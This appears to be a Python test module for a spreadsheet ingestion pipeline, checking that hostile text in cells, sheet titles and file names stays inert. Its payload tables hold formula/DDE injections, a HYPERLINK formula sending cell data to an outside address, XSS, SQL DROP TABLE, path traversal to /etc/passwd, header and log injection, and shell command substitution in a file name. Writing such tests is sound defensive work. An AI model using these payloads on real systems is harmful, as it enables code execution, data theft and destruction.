"""Which texts attack those who show, log or export them? Text of a workbook stays text, wherever it
stands.
"""

from __future__ import annotations

from collections.abc import Callable

from tests.ingest.corpus.base import (
    FINE,
    NOT_REFUSED,
    READ_OR_REFUSED,
    ROWS,
    SAID,
    Case,
    Config,
    at,
    in_row,
    without,
    without_row,
)
from tests.ingest.corpus.books import (
    WORKBOOK,
    Sheet,
    book,
    just,
    made,
    of_grid,
    swap,
    typed,
    unspoilt,
)

PAYLOADS: tuple[tuple[str, str, str], ...] = (
    ("formula-call", "=cmd|'/C calc'!A0", "runs a program when exported as a formula"),
    (
        "formula-link",
        '=HYPERLINK("http://192.0.2.1/?"&A1,"详情")',
        "sends figures away when clicked",
    ),
    ("formula-plus", "+1+cmd|'/C calc'!A0", "a plus begins a formula too"),
    ("formula-minus", "-2+3+cmd|'/C calc'!A0", "a minus begins a formula too"),
    ("formula-at", "@SUM(1+1)*cmd|'/C calc'!A0", "an at sign begins a formula too"),
    ("formula-full-width", "＝1+1", "becomes a formula when width is unified"),
    ("formula-after-tab", "\t=1+1", "a tab before the sign"),
    ("formula-after-return", "\r=1+1", "a carriage return before the sign"),
    ("script", "<script>alert(1)</script>", "runs in a page that shows it as it is"),
    ("image", "<img src=x onerror=alert(1)>", "runs in a page that shows it as it is"),
    ("closing-tag", "</td></tr></table><h1>x", "breaks out of a table"),
    ("link", "<a href='javascript:alert(1)'>x</a>", "charts make links of it"),
    ("template", "%{x}{{7*7}}${7*7}", "charts and templates put values in its place"),
    ("markdown", "[点击](javascript:alert(1))", "a link where markdown is shown"),
    ("query", "'; DROP TABLE observations; --", "ends a query that was put together from text"),
    ("path", "../../../../etc/passwd", "leaves the folder when used as a file's name"),
    (
        "log-line",
        "x\r\n2026-01-01 INFO user=admin signed in",
        "writes a line of its own into a log",
    ),
    ("bidi", "abc\u202egpj.\u202c\u2066x\u2069", "turns the direction of what is read"),
    ("zero-width", "地\u200b区\u200d生\u2060产\ufeff", "characters that cannot be seen"),
    ("terminal", "x_x001B_[2J_x0007_", "clears a terminal that prints it"),
    ("long", "长" * 10_000, "ten thousand characters in one cell"),
    ("combining", "Z" + "\u0301" * 300, "three hundred accents on one letter cover other lines"),
    ("format", "{0.__class__} %s %n", "a pattern for those who format it"),
)
_SHEETS: tuple[tuple[str, str, str], ...] = (
    ("formula", "=1+1", "a title that begins like a formula"),
    ("script", "<script>alert(1)</script>", "a title that is markup"),
    ("image", "<img src=x onerror=1>", "a title that is markup"),
    ("bidi", "数\u202e据", "a title that turns direction"),
    ("zero-width", "数\u200b据", "a title with a character that cannot be seen"),
    ("query", "x'; DROP TABLE y; --", "a title that ends a query"),
    ("template", "%{x}", "a title that is a pattern"),
)
FILES: tuple[tuple[str, str, str], ...] = (
    ("up", "../../outside.xlsx", "a name that leaves the folder"),
    ("up-windows", "..\\..\\outside.xlsx", "a name that leaves the folder on Windows"),
    ("absolute", "/etc/cron.d/outside.xlsx", "a name from the root"),
    ("drive", "C:\\Windows\\outside.xlsx", "a name from a drive"),
    ("header", "book.xlsx\r\nSet-Cookie: a=b", "writes a header of its own"),
    ("markup", "<img src=x onerror=alert(1)>.xlsx", "markup as a name"),
    ("bidi", "book\u202excod.xlsx", "shows another ending than it has"),
    ("zero", "book.xlsx\x00.exe", "ends early for some programs"),
    ("shell", "$(touch outside);`id`.xlsx", "runs when put into a command"),
    ("option", "--quality=final.xlsx", "looks like an option of a command"),
    ("long", "长" * 300 + ".xlsx", "longer than a file system allows"),
    ("two-endings", "book.xlsx.exe", "the last ending is another"),
    ("none", "", "no name at all"),
)


def _given(heading: str, text: str) -> Callable[[Config], bytes]:
    """The text under a heading of the row of `money`."""
    return typed("money", just(text), heading)


def _noted(heading: str, text: str) -> Callable[[Config], bytes]:
    """The text in a column of sources or notes; a wide sheet gets that column."""

    def make(config: Config) -> bytes:
        grid = config.grid()
        if config.wide:
            grid = [[*row, "公报" if number else heading] for number, row in enumerate(grid)]
            grid[config.row("money") - 1][-1] = text
            return of_grid(config, grid)
        return _given(heading, text)(config)

    return make


def _titled(title: str) -> Callable[[Config], bytes]:
    return lambda config: book(Sheet(title, config.grid()))


def _formula_title(config: Config) -> bytes:
    """A title that no spreadsheet would allow, written into the list of sheets by hand."""
    return made(
        lambda parts: swap(parts, WORKBOOK, f'name="{config.sheet}"', "name=\"=cmd|'/C calc'!A0\"")
    )(config)


CASES = (
    *(
        Case(
            f"name-{name}",
            "names",
            _given("指标名称", text),
            SAID,
            f"as a name beside a known id: {why}",
            place=at("money", "指标名称"),
            instead=in_row("money"),
        )
        for name, text, why in PAYLOADS
    ),
    *(
        Case(
            f"note-{name}",
            "names",
            _noted("备注", text),
            NOT_REFUSED,
            f"as a note: {why}",
            place=at("money"),
            instead=in_row("money"),
        )
        for name, text, why in PAYLOADS
        if name in {"formula-call", "script", "bidi", "long", "log-line", "terminal"}
    ),
    *(
        Case(
            f"source-{name}",
            "names",
            _noted("来源", text),
            NOT_REFUSED,
            f"as a source: {why}",
            place=at("money"),
            instead=in_row("money"),
        )
        for name, text, why in PAYLOADS
        if name in {"formula-link", "image", "template", "zero-width", "combining"}
    ),
    *(
        Case(
            f"region-{name}",
            "names",
            _given("地区", text),
            ROWS,
            f"as a region: {why}",
            place=at("money", "地区"),
            instead=in_row("money"),
            stored=without_row("money"),
        )
        for name, text, why in PAYLOADS
        if name in {"formula-at", "script", "query", "bidi", "long", "terminal"}
    ),
    *(
        Case(
            f"id-{name}",
            "names",
            _given("指标编码", text),
            SAID,
            f"as an id beside a known name: {why}",
            place=at("money", "指标编码"),
            instead=in_row("money"),
        )
        for name, text, why in PAYLOADS
        if name in {"formula-plus", "image", "path", "log-line", "format"}
    ),
    *(
        Case(
            f"value-{name}",
            "names",
            typed("money", just(text)),
            ROWS,
            f"as a value: {why}",
            place=at("money"),
            stored=without("money"),
        )
        for name, text, why in PAYLOADS
        if name in {"formula-call", "script", "log-line", "terminal"}
    ),
    *(Case(f"sheet-{name}", "names", _titled(title), FINE, why) for name, title, why in _SHEETS),
    Case(
        "sheet-formula-call",
        "names",
        _formula_title,
        READ_OR_REFUSED,
        "a title that no spreadsheet would allow",
    ),
    *(
        Case(f"file-{name}", "names", unspoilt, READ_OR_REFUSED, why, filename=filename)
        for name, filename, why in FILES
    ),
)
